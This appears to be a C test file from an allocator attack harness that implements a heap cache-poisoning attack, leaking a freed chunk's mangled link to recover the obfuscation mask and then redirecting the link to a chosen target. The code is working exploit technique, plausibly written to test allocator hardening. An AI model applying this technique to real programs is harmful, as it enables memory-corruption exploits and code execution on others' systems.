/* cache_leak.c - as cache_poison, but the attacker can read the freed chunk as well, and
 * knows which chunk its link leads to, or that it is the last: so he learns whatever the
 * link was hidden with. */
#include "attack.h"

static void poison(size_t n, bool last)
{
    stock(n);
    void *a = take(n), *b = take(n);
    wall();
    prey.words[1] = size_of(b) | P;
    give(a);
    give(b);
    size_t mask = peek(b, 0) ^ (last ? 0 : (size_t)a);
    poke(b, 0, mask ^ prey_at(2));
    spend_stock();
    poke(b, 0, mask ^ prey_at(2));
    go_on(n, 3000);
}

static void small(void) { poison(SMALL, false); }
static void small_last(void) { poison(SMALL, true); }
static void middle(void) { poison(MIDDLE, false); }
static void middle_last(void) { poison(MIDDLE, true); }

ATTACK(small, small_last, middle, middle_last)
